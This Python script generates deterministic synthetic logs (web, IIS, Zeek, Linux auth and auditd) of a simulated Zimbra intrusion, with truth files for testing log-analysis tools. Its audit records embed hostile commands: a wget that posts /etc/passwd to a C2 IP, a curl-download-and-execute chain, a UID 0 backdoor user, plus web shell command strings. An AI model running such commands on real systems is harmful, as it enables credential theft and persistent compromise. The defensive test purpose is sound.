#!/usr/bin/env python3
"""make_logs.py OUTDIR -- write realistic line logs of a "No Pineapple!"-style
intrusion for spoor's log readers, the demo and the analytics.

Every file NAME gets a sidecar NAME.truth.json with what was written: the
line accounting spoor must reproduce (lines, events, not_events, malformed)
and the facts an analyst should find (web shell hits per client, the beacon,
the brute force, ...).  Deterministic: the same bytes on every run.  Python
standard library only; everything is invented (documentation and campaign IPs).

Files
-----
web/apache_access.log          reverse proxy in front of a Zimbra server
                               (vhost_combined: "mail.lab.example:443 ip - - [..]
                               "req" st bytes "ref" "ua""), 6 days, ~90 normal
                               clients; on day 3 CVE-2022-27925 mboximport
                               POSTs plant /zimbra/public/base.jsp (JspSpy-like)
                               and /zimbra/downloads/help.jsp, then reached from
                               relays (23.237.32.34 US, 193.176.211.56) and once
                               briefly from 175.45.176.27 (KP)
web/zimbra_access_log          the same requests as Zimbra's Jetty writes them
                               (NCSA extended + latency in ms), plus a blank line,
                               a line cut by log rotation and a garbage line
web/u_ex220815.log             IIS W3C extended (OWA-like), an .aspx web shell
                               (/aspnet_client/system_web/errorEE.aspx), a
                               restart mid-file with a different #Fields header
zeek/conn.log dns.log http.log ssl.log   Zeek TSV, one day: 10.10.20.15
                               beacons to 104.225.129.103:443 every ~60 s +-
                               jitter with no DNS answer naming it, and plain
                               HTTP to the bare IP 15.207.207.64; ~40 hosts of
                               normal DNS-resolved web traffic
zeek/conn.20220811.json        Zeek JSON conn log of the next day (beacon goes on)
linux/auth.log                 Dec 30 -> Jan 2 (year rollover; the file's mtime
                               is set to Jan 2): ssh brute force from
                               193.176.211.77, then a success, sudo, a UID 0
                               useradd, cron noise
linux/audit.log                auditd: execve records (SYSCALL, EXECVE with
                               hex-encoded and split arguments, CWD, PATH,
                               PROCTITLE hex), a USER_LOGIN, an ADD_USER
"""
import datetime as dt
import json
import os
import random
import sys

UTC = dt.timezone.utc
KP_IP = '175.45.176.27'
RELAYS = ['23.237.32.34', '193.176.211.56']
C2_BEACON = '104.225.129.103'
C2_HTTP = '15.207.207.64'
BRUTE_IP = '193.176.211.77'

UAS = [
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/104.0.0.0 Safari/537.36',
    'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.6 Safari/605.1.15',
    'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:103.0) Gecko/20100101 Firefox/103.0',
    'Mozilla/5.0 (X11; Linux x86_64; rv:102.0) Gecko/20100101 Firefox/102.0',
    'Mozilla/5.0 (iPhone; CPU iPhone OS 15_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148',
    'Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.15427; Pro)',
]
ATTACK_UA = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/96.0.4664.110 Safari/537.36'
NORMAL_PATHS = [
    ('GET', '/zimbra/', 200), ('GET', '/zimbra/mail', 200), ('POST', '/service/soap/SearchRequest', 200),
    ('POST', '/service/soap/GetMsgRequest', 200), ('POST', '/service/soap/NoOpRequest', 200),
    ('GET', '/js/zimbraMail/share/model/ZmSettings.js?v=220801', 304), ('GET', '/css/images,common,dwt.css?v=220801', 200),
    ('GET', '/img/logo/ImgLoginBanner.png', 200), ('GET', '/service/home/~/?auth=co&view=html&id=1234', 200),
    ('POST', '/service/upload?fmt=extended,raw', 200), ('GET', '/zimbra/h/search?mesg=welcome', 302),
    ('GET', '/favicon.ico', 404),
]


def ts_clf(t):
    return t.strftime('%d/%b/%Y:%H:%M:%S +0000')


def write(path, lines, truth):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, 'w', newline='') as f:
        f.write(''.join(lines))
    with open(path + '.truth.json', 'w') as f:
        json.dump(truth, f, indent=1, sort_keys=True)
        f.write('\n')


# ---------------------------------------------------------------- web
def web_requests(rng):
    """(time, ip, user, method, target, status, bytes, referer, ua, latency_ms) in time order"""
    start = dt.datetime(2022, 8, 8, 0, 0, 0, tzinfo=UTC)
    clients = []
    for i in range(90):
        net = rng.choice(['81.2.69', '89.160.20', '2.125.160', '216.160.83', '67.43.156', '202.196.224',
                          '175.16.199', '149.101.100', '128.101.101', '31.13.72'])
        clients.append((f'{net}.{rng.randrange(2, 250)}', f'user{i:02d}', rng.choice(UAS)))
    clients.append(('2001:db8:8:4::2', 'user90', UAS[0]))    # an IPv6 client
    reqs = []
    for day in range(6):
        for _ in range(420):
            c = rng.choice(clients)
            t = start + dt.timedelta(days=day, seconds=rng.randrange(6 * 3600, 22 * 3600))
            m, p, st = rng.choice(NORMAL_PATHS)
            user = c[1] if p.startswith('/service/soap') and rng.random() < 0.5 else '-'
            reqs.append((t, c[0], user, m, p, st, rng.randrange(200, 40000) if st != 304 else 0,
                         'https://mail.lab.example/zimbra/' if rng.random() < 0.6 else '-', c[2], rng.randrange(2, 300)))
    shells = {}
    day3 = start + dt.timedelta(days=2)

    def add(t, ip, m, target, st, size, ua=ATTACK_UA, ref='-'):
        reqs.append((t, ip, '-', m, target, st, size, ref, ua, rng.randrange(5, 900)))
        stem = target.split('?')[0]
        if stem.endswith('.jsp') and '/public/' in stem or stem.endswith('help.jsp'):
            shells.setdefault(stem, {}).setdefault(ip, 0)
            shells[stem][ip] += 1

    # exploitation: mboximport with the zip that drops the shells (401 but extracted)
    t = day3 + dt.timedelta(hours=1, minutes=7)
    mbox = []
    for k in range(3):
        target = '/service/extension/backup/mboximport?account-name=admin&ow=2&no-switch=1&append=1'
        add(t + dt.timedelta(seconds=4 * k), RELAYS[0], 'POST', target, 401, 0, ua='python-requests/2.28.1')
        mbox.append((t + dt.timedelta(seconds=4 * k)).isoformat())
    # the shells reached
    t += dt.timedelta(minutes=3)
    add(t, RELAYS[0], 'GET', '/zimbra/public/base.jsp', 200, 8312)
    for k, cmd in enumerate(['whoami', 'id', 'uname+-a', 'cat+/etc/passwd']):
        add(t + dt.timedelta(seconds=30 + 20 * k), RELAYS[0], 'GET', f'/zimbra/public/base.jsp?o=vs&cmd={cmd}', 200, 900 + 13 * k)
    for k in range(12):
        add(t + dt.timedelta(minutes=5 + 7 * k), RELAYS[0], 'POST', '/zimbra/public/base.jsp', 200, rng.randrange(500, 20000),
            ref='https://mail.lab.example/zimbra/public/base.jsp')
    add(t + dt.timedelta(hours=2), RELAYS[0], 'GET', '/zimbra/downloads/help.jsp', 200, 1200)
    # next days: another relay, and the operator's slip from Pyongyang
    t4 = start + dt.timedelta(days=3, hours=2, minutes=11)
    for k in range(9):
        add(t4 + dt.timedelta(minutes=9 * k), RELAYS[1], 'POST', '/zimbra/public/base.jsp', 200, rng.randrange(500, 20000))
    add(t4 + dt.timedelta(minutes=3), RELAYS[1], 'GET', '/zimbra/downloads/help.jsp?cmd=ipconfig', 200, 640)
    tkp = start + dt.timedelta(days=4, hours=1, minutes=42, seconds=17)
    add(tkp, KP_IP, 'GET', '/zimbra/public/base.jsp', 200, 8312)
    add(tkp + dt.timedelta(seconds=21), KP_IP, 'POST', '/zimbra/public/base.jsp', 200, 2311)
    t5 = start + dt.timedelta(days=5, hours=3)
    for k in range(5):
        add(t5 + dt.timedelta(minutes=11 * k), RELAYS[1], 'POST', '/zimbra/downloads/help.jsp', 200, rng.randrange(500, 20000))
    # a scanner (Sigma: suspicious user agents)
    ts = start + dt.timedelta(days=1, hours=4)
    for k, p in enumerate(['/', '/admin/', '/.git/config', '/zimbra/../../etc/passwd']):
        reqs.append((ts + dt.timedelta(seconds=k), '45.155.205.233', '-', 'GET', p, 404, 196, '-',
                     'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)', 3))
    reqs.sort(key=lambda r: r[0])
    return reqs, shells, mbox, tkp


def web_files(out, rng):
    reqs, shells, mbox, tkp = web_requests(rng)
    clients = sorted({r[1] for r in reqs})
    shell_hits = sum(sum(v.values()) for v in shells.values())
    facts = {
        'webshells': {k: dict(sorted(v.items())) for k, v in sorted(shells.items())},
        'webshell_requests': shell_hits,
        'mboximport_posts': len(mbox),
        'mboximport_times': mbox,
        'kp_ip': KP_IP,
        'kp_requests': sum(1 for r in reqs if r[1] == KP_IP),
        'kp_first': tkp.isoformat(),
        'distinct_clients': len(clients),
        'ipv6_requests': sum(1 for r in reqs if ':' in r[1]),
        'scanner_requests': 4,
        'first': reqs[0][0].isoformat(), 'last': reqs[-1][0].isoformat(),
        'get_whoami': sum(1 for r in reqs if r[3] == 'GET' and '=whoami' in r[4]),
    }
    # Apache reverse proxy, vhost_combined
    lines = []
    for t, ip, user, m, p, st, size, ref, ua, lat in reqs:
        lines.append(f'mail.lab.example:443 {ip} - {user} [{ts_clf(t)}] "{m} {p} HTTP/1.1" {st} '
                     f'{size if size else "-"} "{ref}" "{ua}"\n')
    write(os.path.join(out, 'web', 'apache_access.log'), lines,
          dict(format='web_combined', lines=len(lines), events=len(lines), not_events=0, malformed=0, **facts))
    # Zimbra's Jetty: NCSA extended + latency (ms); rotation leaves a cut line
    lines = []
    for i, (t, ip, user, m, p, st, size, ref, ua, lat) in enumerate(reqs):
        lines.append(f'{ip} - {user} [{ts_clf(t)}] "{m} {p} HTTP/1.1" {st} {size if size else "-"} "{ref}" "{ua}" {lat}\n')
        if i == 500:
            lines.append('\n')
        if i == 1500:
            lines.append('81.2.69.160 - - [10/Aug/2022:14:02:\n')
        if i == 2000:
            lines.append('\x00\x00\x00\x00 binary junk \xff\n')
    write(os.path.join(out, 'web', 'zimbra_access_log'), lines,
          dict(format='web_combined', lines=len(lines), events=len(reqs), not_events=1, malformed=2, **facts))


def iis_file(out, rng):
    start = dt.datetime(2022, 8, 15, 0, 0, 0, tzinfo=UTC)
    f1 = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'
    f2 = 'date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) cs-host sc-status sc-substatus sc-win32-status sc-bytes cs-bytes time-taken'
    lines = ['#Software: Microsoft Internet Information Services 10.0\n', '#Version: 1.0\n',
             '#Date: 2022-08-15 00:00:00\n', f'#Fields: {f1}\n']
    hdr = 4
    events = 0
    shell = '/aspnet_client/system_web/errorEE.aspx'
    shell_hits = {}
    normal = ['/owa/', '/owa/auth/logon.aspx', '/owa/service.svc', '/ecp/', '/EWS/Exchange.asmx',
              '/Microsoft-Server-ActiveSync', '/autodiscover/autodiscover.xml']
    t = start + dt.timedelta(hours=6)
    restarted = False
    for i in range(900):
        t += dt.timedelta(seconds=rng.randrange(5, 80))
        if i == 450 and not restarted:
            lines += ['#Software: Microsoft Internet Information Services 10.0\n', '#Version: 1.0\n',
                      f'#Date: {t.strftime("%Y-%m-%d %H:%M:%S")}\n', f'#Fields: {f2}\n']
            hdr += 4
            restarted = True
        ip = f'198.51.100.{rng.randrange(2, 200)}'
        m, p, q, st = 'GET', rng.choice(normal), '-', 200
        ua = rng.choice(UAS).replace(' ', '+')
        user = rng.choice(['-', 'LAB\\alice', 'LAB\\bob'])
        if i in (120, 121, 122, 300, 301, 600, 601, 602, 700):
            ip = RELAYS[0] if i < 500 else '193.176.211.56'
            p, user, ua = shell, '-', ATTACK_UA.replace(' ', '+')
            if i in (121, 601):
                m, q = 'GET', 'exec=cmd+/c+whoami'
            else:
                m = 'POST'
            shell_hits[ip] = shell_hits.get(ip, 0) + 1
        d, tm = t.strftime('%Y-%m-%d'), t.strftime('%H:%M:%S')
        if not restarted:
            lines.append(f'{d} {tm} 10.0.0.5 {m} {p} {q} 443 {user} {ip} {ua} - {st} 0 0 {rng.randrange(1, 900)}\n')
        else:
            lines.append(f'{d} {tm} 10.0.0.5 {m} {p} {q} 443 {user} {ip} {ua} - mail.lab.example {st} 0 0 '
                         f'{rng.randrange(200, 90000)} {rng.randrange(200, 4000)} {rng.randrange(1, 900)}\n')
        events += 1
    write(os.path.join(out, 'web', 'u_ex220815.log'), lines,
          dict(format='web_iis_w3c', lines=len(lines), events=events, not_events=hdr, malformed=0,
               webshell=shell, webshell_hits=shell_hits, webshell_requests=sum(shell_hits.values()),
               get_whoami=2, header_blocks=2))


# ---------------------------------------------------------------- zeek
def zeek_header(path, fields, types, t):
    return ['#separator \\x09\n', '#set_separator\t,\n', '#empty_field\t(empty)\n', '#unset_field\t-\n',
            f'#path\t{path}\n', f'#open\t{t.strftime("%Y-%m-%d-%H-%M-%S")}\n',
            '#fields\t' + '\t'.join(fields) + '\n', '#types\t' + '\t'.join(types) + '\n']


CONN_F = ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'service', 'duration',
          'orig_bytes', 'resp_bytes', 'conn_state', 'local_orig', 'local_resp', 'missed_bytes', 'history',
          'orig_pkts', 'orig_ip_bytes', 'resp_pkts', 'resp_ip_bytes', 'tunnel_parents']
CONN_T = ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'string', 'interval', 'count', 'count', 'string',
          'bool', 'bool', 'count', 'string', 'count', 'count', 'count', 'count', 'set[string]']
DNS_F = ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'proto', 'trans_id', 'rtt', 'query',
         'qclass', 'qclass_name', 'qtype', 'qtype_name', 'rcode', 'rcode_name', 'AA', 'TC', 'RD', 'RA', 'Z',
         'answers', 'TTLs', 'rejected']
DNS_T = ['time', 'string', 'addr', 'port', 'addr', 'port', 'enum', 'count', 'interval', 'string', 'count', 'string',
         'count', 'string', 'count', 'string', 'bool', 'bool', 'bool', 'bool', 'count', 'vector[string]',
         'vector[interval]', 'bool']
HTTP_F = ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'trans_depth', 'method', 'host', 'uri',
          'referrer', 'version', 'user_agent', 'request_body_len', 'response_body_len', 'status_code', 'status_msg',
          'tags', 'resp_mime_types']
HTTP_T = ['time', 'string', 'addr', 'port', 'addr', 'port', 'count', 'string', 'string', 'string', 'string', 'string',
          'string', 'count', 'count', 'count', 'string', 'set[enum]', 'vector[string]']
SSL_F = ['ts', 'uid', 'id.orig_h', 'id.orig_p', 'id.resp_h', 'id.resp_p', 'version', 'cipher', 'curve',
         'server_name', 'resumed', 'established', 'ja3', 'ja3s']
SSL_T = ['time', 'string', 'addr', 'port', 'addr', 'port', 'string', 'string', 'string', 'string', 'bool', 'bool',
         'string', 'string']

DOMAINS = [('www.google.com', '142.250.74.36'), ('outlook.office365.com', '52.97.146.162'),
           ('update.microsoft.com', '13.107.4.50'), ('github.com', '140.82.121.4'),
           ('www.nature.com', '199.232.86.133'), ('pubs.acs.org', '104.18.30.87'),
           ('cdn.jsdelivr.net', '151.101.1.229'), ('api.zotero.org', '209.51.186.50'),
           ('www.ncbi.nlm.nih.gov', '130.14.29.110'), ('slack.com', '3.64.116.82')]


def uid(rng):
    return 'C' + ''.join(rng.choice('ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789') for _ in range(17))


def zeek_files(out, rng):
    day = dt.datetime(2022, 8, 10, 0, 0, 0, tzinfo=UTC)
    hosts = [f'10.10.{rng.randrange(1, 40)}.{rng.randrange(2, 250)}' for _ in range(40)]
    beacon_host = '10.10.20.15'
    conn, dns, http, ssl = [], [], [], []

    def epoch(t):
        return f'{t.timestamp():.6f}'

    def conn_row(t, u, src, sp, dst, dp, proto, svc, dur, ob, rb, state='SF', hist='ShADadfF'):
        return [epoch(t), u, src, str(sp), dst, str(dp), proto, svc, f'{dur:.6f}', str(ob), str(rb), state, 'T', 'F',
                '0', hist, str(rng.randrange(3, 40)), str(ob + 400), str(rng.randrange(3, 40)), str(rb + 400), '(empty)']

    # normal traffic: resolve then connect
    for _ in range(1800):
        t = day + dt.timedelta(seconds=rng.randrange(7 * 3600, 20 * 3600), microseconds=rng.randrange(1000000))
        h = rng.choice(hosts)
        name, ip = rng.choice(DOMAINS)
        u1, u2 = uid(rng), uid(rng)
        dns.append([epoch(t), u1, h, str(rng.randrange(1024, 65000)), '10.10.0.2', '53', 'udp', str(rng.randrange(65535)),
                    '0.001234', name, '1', 'C_INTERNET', '1', 'A', '0', 'NOERROR', 'F', 'F', 'T', 'T', '0',
                    f'{name}.cdn.example,{ip}' if rng.random() < 0.3 else ip, '300.000000,60.000000' if False else '60.000000', 'F'])
        if ',' in dns[-1][21]:
            dns[-1][22] = '300.000000,60.000000'
        t2 = t + dt.timedelta(milliseconds=rng.randrange(2, 40))
        if rng.random() < 0.8:
            conn.append(conn_row(t2, u2, h, rng.randrange(1024, 65000), ip, 443, 'tcp', 'ssl', rng.random() * 30,
                                 rng.randrange(500, 5000), rng.randrange(2000, 900000)))
            ssl.append([epoch(t2), u2, h, conn[-1][3], ip, '443', 'TLSv13', 'TLS_AES_128_GCM_SHA256', 'x25519', name,
                        'F', 'T', 'a0e9f5d64349fb13191bc781f81f42e1', 'f4febc55ea12b31ae17cfb7e614afda8'])
        else:
            conn.append(conn_row(t2, u2, h, rng.randrange(1024, 65000), ip, 80, 'tcp', 'http', rng.random() * 5,
                                 rng.randrange(300, 900), rng.randrange(500, 90000)))
            http.append([epoch(t2), u2, h, conn[-1][3], ip, '80', '1', 'GET', name, '/index.html', '-', '1.1',
                         rng.choice(UAS), '0', str(rng.randrange(500, 90000)), '200', 'OK', '(empty)', 'text/html'])
    # NXDOMAIN lookups: no answers (unset)
    for _ in range(40):
        t = day + dt.timedelta(seconds=rng.randrange(86400))
        dns.append([epoch(t), uid(rng), rng.choice(hosts), str(rng.randrange(1024, 65000)), '10.10.0.2', '53', 'udp',
                    str(rng.randrange(65535)), '-', f'wpad.lab{rng.randrange(9)}.example', '1', 'C_INTERNET', '1', 'A', '3',
                    'NXDOMAIN', 'F', 'F', 'T', 'T', '0', '-', '-', 'F'])
    # the beacon: every 60 s +- 6 s, all day, TLS without SNI
    beacon_times = []
    t = day + dt.timedelta(seconds=17.25)
    end = day + dt.timedelta(days=1)
    while t < end:
        u = uid(rng)
        conn.append(conn_row(t, u, beacon_host, rng.randrange(40000, 60000), C2_BEACON, 443, 'tcp', 'ssl',
                             0.3 + rng.random(), 517, 4211 + rng.randrange(0, 30)))
        ssl.append([epoch(t), u, beacon_host, conn[-1][3], C2_BEACON, '443', 'TLSv12',
                    'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384', 'secp256r1', '-', 'F', 'T',
                    '72a589da586844d7f0818ce684948eea', 'ec74a5c51106f0419184d0dd08fb05bc'])
        beacon_times.append(t)
        t += dt.timedelta(seconds=60 + rng.uniform(-6, 6))
    # plain HTTP to a bare IP (Host: 15.207.207.64)
    http_c2 = 0
    for k in range(24):
        t = day + dt.timedelta(hours=k, minutes=rng.randrange(60))
        u = uid(rng)
        conn.append(conn_row(t, u, beacon_host, rng.randrange(40000, 60000), C2_HTTP, 80, 'tcp', 'http', 0.2, 310, 1290))
        uri = f'/board.php?id={rng.randrange(10**6)}&s={rng.randrange(10**4)}' if k != 5 else '/upd/svc.exe'
        http.append([epoch(t), u, beacon_host, conn[-1][3], C2_HTTP, '80', '1', 'POST' if k != 5 else 'GET', C2_HTTP,
                     uri, '-', '1.1', 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1)', '64', '1290', '200', 'OK',
                     '(empty)', 'application/x-dosexec' if k == 5 else 'text/html'])
        http_c2 += 1
    for rows in (conn, dns, http, ssl):
        rows.sort(key=lambda r: float(r[0]))
    closing = f'#close\t{end.strftime("%Y-%m-%d-%H-%M-%S")}\n'
    for name, f, ty, rows, extra in (('conn', CONN_F, CONN_T, conn, {
            'beacon': {'src': beacon_host, 'dst': C2_BEACON, 'port': 443, 'count': len(beacon_times),
                       'mean_interval_s': 60, 'jitter_s': 6},
            'bare_ip_http': {'src': beacon_host, 'dst': C2_HTTP, 'count': http_c2},
            'to_beacon_ip': sum(1 for r in conn if r[4] == C2_BEACON)}),
            ('dns', DNS_F, DNS_T, dns, {'answers_naming_c2': 0, 'nxdomain': 40,
                                        'multi_answers': sum(1 for r in dns if ',' in r[21])}),
            ('http', HTTP_F, HTTP_T, http, {'bare_ip_host': http_c2, 'exe_download': 1}),
            ('ssl', SSL_F, SSL_T, ssl, {'no_sni': sum(1 for r in ssl if r[9] == '-'),
                                        'to_beacon_ip': len(beacon_times)})):
        lines = zeek_header(name, f, ty, day) + ['\t'.join(r) + '\n' for r in rows] + [closing]
        write(os.path.join(out, 'zeek', f'{name}.log'), lines,
              dict(format='zeek_tsv', service=name, lines=len(lines), events=len(rows), not_events=9, malformed=0,
                   **extra))
    # next day, JSON
    day2 = day + dt.timedelta(days=1)
    lines = []
    t = day2 + dt.timedelta(seconds=12.5)
    nb = 0
    while t < day2 + dt.timedelta(hours=6):
        rec = {'ts': round(t.timestamp(), 6), 'uid': uid(rng), 'id.orig_h': beacon_host, 'id.orig_p': rng.randrange(40000, 60000),
               'id.resp_h': C2_BEACON, 'id.resp_p': 443, 'proto': 'tcp', 'service': 'ssl', 'duration': 0.71,
               'orig_bytes': 517, 'resp_bytes': 4222, 'conn_state': 'SF', 'local_orig': True, 'local_resp': False,
               'missed_bytes': 0, 'history': 'ShADadfF', 'orig_pkts': 9, 'orig_ip_bytes': 1000, 'resp_pkts': 8,
               'resp_ip_bytes': 4600}
        lines.append(json.dumps(rec, separators=(',', ':')) + '\n')
        nb += 1
        t += dt.timedelta(seconds=60 + rng.uniform(-6, 6))
        if rng.random() < 0.5:
            name, ip = rng.choice(DOMAINS)
            rec = {'ts': round((t - dt.timedelta(seconds=20)).timestamp(), 6), 'uid': uid(rng),
                   'id.orig_h': rng.choice(hosts), 'id.orig_p': rng.randrange(1024, 65000), 'id.resp_h': ip,
                   'id.resp_p': 443, 'proto': 'tcp', 'service': 'ssl', 'duration': 3.2, 'orig_bytes': 900,
                   'resp_bytes': 40000, 'conn_state': 'SF', 'history': 'ShADadfF', 'tunnel_parents': []}
            lines.append(json.dumps(rec, separators=(',', ':')) + '\n')
    write(os.path.join(out, 'zeek', 'conn.20220811.json'), lines,
          dict(format='zeek_json', service='conn', lines=len(lines), events=len(lines), not_events=0, malformed=0,
               beacon={'src': beacon_host, 'dst': C2_BEACON, 'count': nb}))


# ---------------------------------------------------------------- linux
def auth_file(out, rng):
    host = 'mail'
    t = dt.datetime(2022, 12, 30, 8, 0, 0, tzinfo=UTC)
    lines, failed, invalid = [], 0, 0
    pid = 20000

    def L(t, prog, msg, p=None):
        nonlocal pid
        if p is None:
            pid += rng.randrange(1, 9)
            p = pid
        day = f'{t.day:2d}'
        lines.append(f'{t.strftime("%b")} {day} {t.strftime("%H:%M:%S")} {host} {prog}[{p}]: {msg}\n')

    for k in range(60):   # cron noise over the days
        tc = t + dt.timedelta(hours=k * 1.2)
        L(tc, 'CRON', 'pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)')
        L(tc + dt.timedelta(seconds=1), 'CRON', 'pam_unix(cron:session): session closed for user root')
    tb = dt.datetime(2022, 12, 31, 22, 50, 0, tzinfo=UTC)   # brute force across the new year
    users = ['root', 'admin', 'test', 'oracle', 'zimbra', 'ubuntu', 'backup', 'postgres']
    for k in range(240):
        tt = tb + dt.timedelta(seconds=k * 11)
        u = rng.choice(users)
        port = rng.randrange(30000, 65000)
        if u in ('admin', 'test', 'oracle', 'ubuntu'):
            L(tt, 'sshd', f'Invalid user {u} from {BRUTE_IP} port {port}')
            L(tt, 'sshd', f'Failed password for invalid user {u} from {BRUTE_IP} port {port} ssh2', p=pid)
            invalid += 1
        else:
            L(tt, 'sshd', f'Failed password for {u} from {BRUTE_IP} port {port} ssh2')
        failed += 1
    ts = tb + dt.timedelta(seconds=240 * 11 + 30)
    L(ts, 'sshd', f'Accepted password for backup from {BRUTE_IP} port 51234 ssh2')
    L(ts, 'sshd', 'pam_unix(sshd:session): session opened for user backup(uid=34) by (uid=0)', p=pid)
    L(ts + dt.timedelta(minutes=2), 'sudo', '  backup : TTY=pts/0 ; PWD=/var/backups ; USER=root ; COMMAND=/usr/sbin/useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysadm')
    L(ts + dt.timedelta(minutes=2, seconds=1), 'useradd', 'new user: name=sysadm, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0')
    L(ts + dt.timedelta(minutes=5), 'sshd', 'Accepted publickey for alice from 10.10.1.20 port 50022 ssh2: ED25519 SHA256:Xj1bq1Tq3uTt0c5FHk+u0p0Jt1tEb3JrFh2H0Q0l7q8')
    # merge by time: parse back the stamps we wrote (year-aware)
    def key(l):
        mon = dt.datetime.strptime(l[:3], '%b').month
        y = 2022 if mon == 12 else 2023
        return dt.datetime.strptime(f'{y} {l[:15]}', '%Y %b %d %H:%M:%S')
    lines.sort(key=key)
    path = os.path.join(out, 'linux', 'auth.log')
    first, last = key(lines[0]), key(lines[-1])
    write(path, lines, dict(format='linux_auth', lines=len(lines), events=len(lines), not_events=0, malformed=0,
                            ssh_failed=failed, ssh_invalid_user=invalid, ssh_accepted_from_brute=1,
                            brute_ip=BRUTE_IP, uid0_user='sysadm', first=first.isoformat() + 'Z', last=last.isoformat() + 'Z',
                            mtime='2023-01-02T12:00:00Z', years=[2022, 2023]))
    mt = dt.datetime(2023, 1, 2, 12, 0, 0, tzinfo=UTC).timestamp()
    os.utime(path, (mt, mt))


def hexs(s):
    return s.encode().hex().upper()


def audit_file(out, rng):
    t0 = 1660140000.0   # 2022-08-10 14:00:00 UTC
    serial = 8811
    lines = []
    execs = []

    def rec(t, typ, body):
        lines.append(f'type={typ} msg=audit({t:.3f}:{serial}): {body}\n')

    cmds = [
        (['whoami'], '/usr/bin/whoami', 'whoami'),
        (['id'], '/usr/bin/id', 'id'),
        (['uname', '-a'], '/usr/bin/uname', 'uname'),
        (['wget', '--post-file=/etc/passwd', f'http://{C2_BEACON}/up'], '/usr/bin/wget', 'wget'),
        (['useradd', '-o', '-u', '0', 'sysadm'], '/usr/sbin/useradd', 'useradd'),
        (['chmod', '777', '/tmp/.x/agent'], '/usr/bin/chmod', 'chmod'),
        (['sh', '-c', 'cd /tmp && curl -s http://15.207.207.64/upd/svc -o .s; chmod +x .s; ./.s'], '/usr/bin/dash', 'sh'),
        (['python3', '-c', 'A' * 9000], '/usr/bin/python3.10', 'python3'),
    ]
    t = t0
    for args, exe, comm in cmds:
        t += rng.randrange(20, 300) + rng.random()
        serial += 1
        rec(t, 'SYSCALL', f'arch=c000003e syscall=59 success=yes exit=0 a0=55d0c2a1e0 a1=55d0c2a210 a2=55d0c2a230 a3=0 '
                          f'items=2 ppid=4120 pid={4200 + serial % 1000} auid=4294967295 uid=998 gid=998 euid=998 suid=998 '
                          f'fsuid=998 egid=998 sgid=998 fsgid=998 tty=(none) ses=4294967295 comm="{comm}" exe="{exe}" '
                          f'subj=unconfined key="susp_activity"')
        parts = []
        for i, a in enumerate(args):
            if len(a) > 4000:   # the kernel splits long arguments: aN_len, aN[0], aN[1], ...
                h = hexs(a)
                parts.append(f'a{i}_len={len(a)}')
                for k in range(0, len(h), 4000):
                    parts.append(f'a{i}[{k // 4000}]={h[k:k + 4000]}')
            elif ' ' in a or '"' in a or any(ord(c) < 33 or ord(c) > 126 for c in a):
                parts.append(f'a{i}={hexs(a)}')
            else:
                parts.append(f'a{i}="{a}"')
        rec(t, 'EXECVE', f'argc={len(args)} ' + ' '.join(parts))
        rec(t, 'CWD', 'cwd="/opt/zimbra"' if comm != 'sh' else f'cwd={hexs("/opt/zimbra/jetty base")}')
        rec(t, 'PATH', f'item=0 name="{exe}" inode=1234 dev=fd:01 mode=0100755 ouid=0 ogid=0 rdev=00:00 nametype=NORMAL '
                       f'cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0')
        rec(t, 'PROCTITLE', 'proctitle=' + '00'.join(hexs(a) for a in args[:3])[:256])
        execs.append({'serial': serial, 'args': args, 'exe': exe})
    serial += 1
    t += 5
    rec(t, 'ADD_USER', "pid=4499 uid=0 auid=4294967295 ses=4294967295 subj=unconfined msg='op=add-user id=0 exe=\"/usr/sbin/useradd\" hostname=mail addr=? terminal=pts/0 res=success'")
    serial += 1
    t += 60
    rec(t, 'USER_LOGIN', f"pid=5012 uid=0 auid=34 ses=12 subj=unconfined msg='op=login acct={hexs('backup')} exe=\"/usr/sbin/sshd\" hostname=? addr={BRUTE_IP} terminal=sshd res=success'")
    write(os.path.join(out, 'linux', 'audit.log'), lines,
          dict(format='linux_audit', lines=len(lines), events=len(lines), not_events=0, malformed=0,
               execve=len(execs), execs=[{'serial': e['serial'], 'a0': e['args'][0], 'argc': len(e['args']),
                                          'exe': e['exe']} for e in execs],
               long_arg_len=9000, user_login_acct='backup'))


def main():
    if len(sys.argv) != 2:
        print(__doc__)
        sys.exit(2)
    out = sys.argv[1]
    web_files(out, random.Random(7))
    iis_file(out, random.Random(8))
    zeek_files(out, random.Random(9))
    auth_file(out, random.Random(10))
    audit_file(out, random.Random(11))
    n = 0
    for d, _, fs in os.walk(out):
        for f in sorted(fs):
            if not f.endswith('.truth.json'):
                n += 1
                print(os.path.join(d, f))
    print(f'{n} log files written', file=sys.stderr)


if __name__ == '__main__':
    main()
